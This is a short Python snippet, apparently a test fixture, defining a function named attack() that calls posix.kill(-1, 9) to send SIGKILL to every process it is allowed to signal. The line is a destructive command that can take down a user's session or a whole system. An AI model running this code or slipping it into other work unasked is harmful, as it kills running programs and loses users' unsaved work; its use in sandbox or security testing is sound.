# Sends SIGKILL to everything it may signal.
def attack():
    import posix

    posix.kill(-1, 9)
    return False
